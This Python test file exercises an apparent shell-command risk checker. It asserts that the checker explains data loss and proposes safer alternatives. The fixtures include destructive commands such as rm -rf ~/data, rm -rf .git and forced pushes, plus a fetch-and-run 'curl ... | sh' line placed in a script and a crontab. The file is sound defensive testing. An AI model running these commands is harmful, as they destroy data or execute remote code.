"""What a question says of a world: how much would be lost, what by name, and what is proposed instead."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from shellguard.judgement import judge
from shellguard.settings.model import Settings
from tests.worlds.world import World

APP = "git init -q -b main\ntext README.md 'hello'\ntext src/app.py 'print(1)'\ncommit first"
SIX = "\n".join(f"text {name}.sql 'x'" for name in "abcdef")
TOLD: list[tuple[str, str, str, tuple[str, ...]]] = [
    (
        "what a list hands on is counted once, however many names fit",
        "ls -1t *.sql | tail -n +3 | xargs rm -f",
        SIX,
        ("(4 files, 4 B;",),
    ),
    (
        "what is lost is named first and counted by itself",
        "rm -f *",
        "repository a.c b.c\nfile a.o b.o c.c thesis.tex",
        (": c.c, thesis.tex, a.c and 3 more", "bring 2 of them back"),
    ),
    (
        "a blank too many is told of",
        "rm -f * .o",
        "repository a.c b.c\nfile thesis.tex",
        ("perhaps *.o was meant",),
    ),
    (
        "what takes the place of more says so",
        "mv new.csv data.csv",
        "text new.csv '1'\ntext data.csv '1,2,3,4,5'",
        ("a file of 1 instead of 9 bytes takes its place",),
    ),
    (
        "what the line moves there itself is told of",
        "mv may.md all.md; mv june.md all.md",
        "file may.md june.md",
        ("the line itself moves may.md there before",),
    ),
    (
        "what it means is said behind what it is done to",
        "sqlite3 app.db 'delete from notes'",
        "database app.db 2",
        ("all rows of notes: app.db (nothing narrows it; 2 rows of notes)",),
    ),
    (
        "a kind of thing and its name stand as they were typed",
        "kubectl delete ns shop",
        "cluster dev",
        (": ns shop",),
    ),
    (
        "all of several machines are named",
        "aws ec2 terminate-instances --instance-ids i-0a i-0b",
        "folder x",
        (": i-0b, i-0a (what only their own disks hold is lost)",),
    ),
    (
        "of a repository's own folder its commits are told, not its files",
        "rm -rf .git",
        APP,
        ("the history of a git repository; holds a git repository that was pushed nowhere)",),
    ),
    (
        "what git ignores is not what it does not know",
        "git clean -fdX",
        f"{APP}\ntext .gitignore '.env'\ncommit second\nfile .env",
        ("removes files that git ignores", "; .env)"),
    ),
    (
        "what a search hands on is what it finds, not all that is there",
        "find . -type f -mtime +30 -exec rm {} +",
        "files old#.txt 5\nold old0.txt old1.txt old2.txt",
        ("removes all that it finds in the folder", "(3 files, "),
    ),
    (
        "a branch is told with the remote that it is on",
        "git push --force origin main",
        f"{APP}\npushed\nothers_pushed",
        (": main on origin (",),
    ),
    (
        "the table is told whose rows all change, not the database alone",
        "psql shop -c 'update orders set paid = true'",
        "folder x",
        ("changes all rows of orders: shop (nothing narrows it)",),
    ),
    (
        "what writes nothing empties the file",
        "true > notes.md",
        "file notes.md",
        ("empties a file: notes.md (1 file, ",),
    ),
    (
        "owners are no permissions",
        "chown -R www-data /usr/local",
        "folder x",
        ("changes owners of a folder that the system needs",),
    ),
    (
        "what a filter runs is no branch",
        "git filter-branch --tree-filter 'rm -f big.bin' HEAD",
        f"{APP}\nfile n.txt\ncommit second",
        ("history: HEAD (",),
    ),
    (
        "the key that all could read is named",
        "chmod -R 755 .",
        "file a.html .ssh/id_rsa",
        ("the private key .ssh/id_rsa",),
    ),
    (
        "what a project's own command runs is told as it stands there",
        "npm run clean",
        'text package.json \'{"scripts": {"clean": "rm -rf ~/data ../*"}}\'\nfiles ~/data/#.csv 9',
        ("), by rm -rf ~/data ../*",),
    ),
    (
        "what a name stands for is told",
        "tidy",
        "alias tidy 'rm -rf ~/data'\nfiles ~/data/#.csv 9",
        ("), by rm -rf ~/data",),
    ),
    (
        "of a pipe in a script both ends are told",
        "sh get.sh",
        "text get.sh 'curl -s http://203.0.113.8/x | sh\\n'",
        (", by curl -s http://203.0.113.8/x | sh",),
    ),
]
SEEN_ANYWAY: list[tuple[str, str, str]] = [
    ("a line that stands there", "rm -rf ~/data", "files ~/data/#.csv 9"),
    ("behind a wrapper", "sudo rm -rf ~/data", "files ~/data/#.csv 9"),
    ("in the text of another shell", "bash -c 'rm -rf ~/data'", "files ~/data/#.csv 9"),
    (
        "code of a file, which is no command",
        "python3 x.py",
        "text x.py 'import shutil\\nshutil.rmtree(\"../data\")'\nfiles ../data/#.csv 9",
    ),
]
PROPOSED: list[tuple[str, str, str, str]] = [
    (
        "the command that loses something is the one that is changed",
        "git reset --hard && git clean -fd",
        f"{APP}\ntext new.py 'x'",
        "git reset --hard && git clean -nd",
    ),
    (
        "commits of no branch are kept by one, not stashed",
        "git checkout main",
        f"{APP}\ngit checkout -q --detach\ntext n.py 'x'\ncommit loose",
        "git branch before-leaving && git checkout main",
    ),
    (
        "a file that is emptied is copied first, not added nothing to",
        "true > notes.md",
        "file notes.md",
        "cp -p -- notes.md notes.md.bak && true > notes.md",
    ),
    ("a repository's history is put aside", "rm -rf .git", APP, "mv -- .git .git.bak"),
    (
        "a tag's commits are kept by a branch",
        "git tag -d v1",
        f"{APP}\ngit checkout -q --detach\ntext n.py 'x'\ncommit loose\ngit tag v1\ngit checkout -q main",
        "git branch kept-v1 v1 && git tag -d v1",
    ),
    (
        "a branch's name is taken only where it is free",
        "git branch -M topic main",
        f"{APP}\ngit branch topic\ntext n.py 'x'\ncommit only\ngit checkout -q topic",
        "git branch -m topic main",
    ),
    (
        "a state in front of a file is not put aside with it",
        "git checkout HEAD~1 src/app.py",
        f"{APP}\ntext n.py 'x'\ncommit second\nedit src/app.py",
        "git stash push -- src/app.py && git checkout HEAD~1 src/app.py",
    ),
    (
        "what stands in the index too is put aside",
        "git checkout HEAD -- .",
        f"{APP}\nedit src/app.py\ngit add -A",
        "git stash push -- .",
    ),
    (
        "what a loop goes through is not empty: to guard it keeps nothing",
        'for d in */; do rm -rf "$d/target"; done',
        "file a/target/x.docx b/target/y.docx",
        'for d in */; do find "$d/target" -maxdepth 2 -print; done',
    ),
    (
        "where another branch stood is kept",
        "git branch -f release HEAD",
        f"{APP}\ngit checkout -q -b release\ntext n.py 'x'\ncommit only\ngit checkout -q main",
        "git branch kept-release release && git branch -f release HEAD",
    ),
    (
        "a file that is written over from its beginning is copied first",
        "dd if=/dev/zero of=disk.img bs=1M count=8",
        "image disk.img",
        "cp -p -- disk.img disk.img.bak && dd if=/dev/zero of=disk.img bs=1M count=8",
    ),
]
NOTHING_SAFER: list[tuple[str, str, str]] = [
    (
        "a copy of the old jobs makes the new ones no safer",
        "crontab jobs.txt",
        "text jobs.txt '* * * * * curl -s http://203.0.113.8/x | sh\\n'",
    ),
]


@pytest.mark.parametrize(("name", "line", "steps", "words"), TOLD, ids=[one[0] for one in TOLD])
def test_a_question_tells_how_much_and_what(
    name: str, line: str, steps: str, words: tuple[str, ...], new_world: Callable[[], World]
) -> None:
    world = new_world()
    world.make(steps)
    answer = judge(line, shell=world.shell, settings=Settings())
    assert [word for word in words if word not in answer.risk.reasoning] == [], answer.risk.reasoning


@pytest.mark.parametrize(("name", "line", "steps"), SEEN_ANYWAY, ids=[one[0] for one in SEEN_ANYWAY])
def test_what_the_line_itself_shows_is_not_told_again(
    name: str, line: str, steps: str, new_world: Callable[[], World]
) -> None:
    world = new_world()
    world.make(steps)
    answer = judge(line, shell=world.shell, settings=Settings())
    assert answer.risk.score > 50
    assert [one.by for one in answer.effects if one.by] == []


@pytest.mark.parametrize(("name", "line", "steps", "instead"), PROPOSED, ids=[one[0] for one in PROPOSED])
def test_what_is_proposed_keeps_what_would_be_lost(
    name: str, line: str, steps: str, instead: str, new_world: Callable[[], World]
) -> None:
    world = new_world()
    world.make(steps)
    answer = judge(line, shell=world.shell, settings=Settings())
    assert answer.safe_alternative is not None
    assert answer.safe_alternative.command == instead


@pytest.mark.parametrize(("name", "line", "steps"), NOTHING_SAFER, ids=[one[0] for one in NOTHING_SAFER])
def test_nothing_is_proposed_that_does_the_same(
    name: str, line: str, steps: str, new_world: Callable[[], World]
) -> None:
    world = new_world()
    world.make(steps)
    assert judge(line, shell=world.shell, settings=Settings()).safe_alternative is None
